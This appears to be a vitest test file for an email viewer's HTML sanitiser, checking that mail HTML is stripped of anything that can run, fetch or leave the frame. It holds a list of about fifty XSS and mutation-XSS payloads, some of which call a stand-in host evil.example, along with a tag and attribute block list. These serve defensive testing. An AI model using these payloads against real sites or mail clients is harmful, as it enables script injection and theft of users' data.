/** The page that shows a mail: nothing of it runs, asks for anything, or leaves the frame. */
import { parseDocument } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { createMemoryFileStore } from '../../../server/gateways/files/memory-file-store.ts'
import { viewMail } from '../../../server/gateways/mime/view-mail.ts'
import { bytesOf, inPieces, mailOf, multipart, part, usualHead, type MailSource } from '../../support/odd-mails.ts'

const view = async (source: MailSource, remote = false) => {
  const files = createMemoryFileStore()
  const original = await files.put(inPieces(bytesOf(source), 65_536))
  return viewMail(files, original, remote)
}
const viewHtml = (html: string, remote = false) =>
  view(mailOf(...usualHead, 'Content-Type: text/html; charset=utf-8', '', html), remote)

/** What came from the sender: everything between our own head and the end. */
const bodyOf = (page: string): string => page.slice(page.indexOf('<body>') + 6, page.lastIndexOf('</body>'))

interface Element {
  readonly name: string
  readonly attributes: Readonly<Record<string, string>>
}

const elementsOf = (html: string): Element[] => {
  const found: Element[] = []
  const walk = (nodes: ReturnType<typeof parseDocument>['children']): void => {
    for (const node of nodes) {
      if ('attribs' in node) found.push({ name: node.name, attributes: node.attribs })
      if ('children' in node) walk(node.children)
    }
  }
  walk(parseDocument(html).children)
  return found
}

const forbiddenTags = new Set(
  'script style iframe frame object embed applet form input button textarea select meta link base svg math video audio source track template noscript title'.split(
    ' ',
  ),
)

/** Empty: nothing in it can act. */
const dangersIn = (html: string, remote = false): string[] =>
  elementsOf(html).flatMap(({ name, attributes }) => [
    ...(forbiddenTags.has(name) ? [`<${name}>`] : []),
    ...Object.entries(attributes).flatMap(([key, value]) => {
      const bare = [...value]
        .filter((letter) => letter > ' ')
        .join('')
        .toLowerCase()
      if (key.startsWith('on')) return [key]
      if (key === 'href') return /^(?:https?:|mailto:|#)/.test(bare) || bare === '' ? [] : [`href ${value}`]
      if (key === 'src') {
        const isFine =
          /^data:image\/(?:png|jpe?g|gif|webp|bmp);base64,/.test(bare) || (remote && bare.startsWith('https://'))
        return isFine ? [] : [`src ${value}`]
      }
      if (key === 'style')
        return /url|expression|import|javascript|@|\\|behavior|-moz-binding|position/.test(bare)
          ? [`style ${value}`]
          : []
      return [
        'srcset',
        'background',
        'action',
        'formaction',
        'xlink:href',
        'data',
        'poster',
        'ping',
        'srcdoc',
      ].includes(key)
        ? [key]
        : []
    }),
  ])

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror\u0000="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a ping="https://evil.example" href="https://x.example">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object><embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-image:\\75rl(https://evil.example/x)">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="width:calc(1px);-moz-binding:url(x)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:9999px">x</p>',
  '<p style="font-family:\'a\';background:u/**/rl(https://evil.example)">x</p>',
  '<p style="content:attr(x);list-style-image:image-set(\'https://evil.example\' 1x)">x</p>',
  '<table background="https://evil.example/x"><tr><td background="x">x</td></tr></table>',
  '<img srcset="https://evil.example/x 2x"><picture><source srcset="https://evil.example/x"></picture>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:text/html;base64,PHN2Zz4=">',
  '<video poster="https://evil.example/x"><source src="https://evil.example/x"></video><audio src="https://evil.example/x">',
  '<body onload=alert(1)><div onmouseover="alert(1)" onclick=alert(1)>x</div>',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template><title><img src=x onerror=alert(1)></title>',
  '</body></html><script>alert(1)</script>',
  '<a href="https://x.example" target="_self" rel="opener">x</a>',
  '<isindex type=image src=x onerror=alert(1)><marquee onstart=alert(1)>x</marquee><details ontoggle=alert(1) open>x</details>',
]

describe('cleaned HTML', () => {
  it.each(attacks)('[R23] nothing acts: %s', async (html) => {
    for (const remote of [false, true]) {
      const { html: page } = await viewHtml(`<p>Before</p>${html}<p>After</p>`, remote)
      expect(dangersIn(bodyOf(page), remote)).toEqual([])
      expect(page).toContain('Before')
    }
  })

  it('[R23] layout stays: tables, colours, fonts, lists', async () => {
    const html =
      '<table border="1" cellpadding="2" style="width:100%;color:#f00"><tr><td style="font-family:\'Segoe UI\',sans-serif;padding:2px 4px">x</td></tr></table><ul><li>y</li></ul>'
    const body = bodyOf((await viewHtml(html)).html)
    for (const piece of ['border="1"', 'width:100%', 'color:#f00', 'font-family', 'padding:2px 4px', '<li>y</li>'])
      expect(body).toContain(piece)
  })

  it('[R23] links open elsewhere and tell nothing of where they were', async () => {
    const links = elementsOf(bodyOf((await viewHtml('<a href="https://x.example/?a=b&amp;c" target=_top>x</a>')).html))
    expect(links).toEqual([
      { name: 'a', attributes: { href: 'https://x.example/?a=b&c', target: '_blank', rel: 'noopener noreferrer' } },
    ])
  })

  it('[R23] pictures from elsewhere wait for a person, and then come over https only', async () => {
    const html = '<img src="https://x.example/a.png"><img src="http://x.example/b.png"><img src="//x.example/c.png">'
    const shut = await viewHtml(html)
    expect([shut.hasRemote, shut.html.includes('x.example')]).toEqual([true, false])
    const open = await viewHtml(html, true)
    expect(elementsOf(bodyOf(open.html)).flatMap(({ attributes }) => attributes['src'] ?? [])).toEqual([
      'https://x.example/a.png',
    ])
    expect((await viewHtml('<p>Nothing from elsewhere</p>')).hasRemote).toBe(false)
  })

  it('[R23] the policy of the page forbids what cleaning might have missed', async () => {
    const policy = (page: string) => /Content-Security-Policy" content="([^"]*)"/.exec(page)?.[1]
    expect(policy((await viewHtml('x')).html)).toBe(
      "default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'",
    )
    expect(policy((await viewHtml('x', true)).html)).toContain('img-src data: https:;')
  })
})

describe('what is shown of a mail', () => {
  const picture = (id: string, bytes: Buffer): string =>
    part(
      `Content-Type: image/png\r\nContent-ID: <${id}>\r\nContent-Transfer-Encoding: base64`,
      bytes.toString('base64'),
    )

  it('[R23] its own pictures, five megabytes of them at most', async () => {
    const small = Buffer.from('a small picture')
    const { html } = await view(
      mailOf(
        ...usualHead,
        multipart('multipart/related', 'b', [
          part('Content-Type: text/html', '<img src="cid:small@x"><img src="cid:large@x"><img src="cid:none@x">'),
          picture('large@x', Buffer.alloc(6_000_000)),
          picture('small@x', small),
        ]),
      ),
    )
    expect(elementsOf(bodyOf(html)).map(({ attributes }) => attributes['src'])).toEqual([
      `data:image/png;base64,${small.toString('base64')}`,
      undefined,
      undefined,
    ])
  })

  it('[R23] of alternatives the HTML; a plain mail as its text, with nothing in it taken for HTML', async () => {
    const both = [part('Content-Type: text/plain', 'Plain'), part('Content-Type: text/html', '<b>Rich</b>')]
    expect(bodyOf((await view(mailOf(...usualHead, multipart('multipart/alternative', 'b', both)))).html)).toBe(
      '<b>Rich</b>',
    )
    const plain = await view(mailOf(...usualHead, '', '<script>alert(1)</script> & more'))
    expect(bodyOf(plain.html)).toBe('<div class="plain">&lt;script&gt;alert(1)&lt;/script&gt; &amp; more</div>')
  })

  it('[R23] of too much HTML its words', async () => {
    const { html } = await viewHtml(`<p>First words</p><p title="${'x'.repeat(5_000_000)}"></p>`)
    expect(bodyOf(html)).toBe('<div class="plain">First words</div>')
  })
})
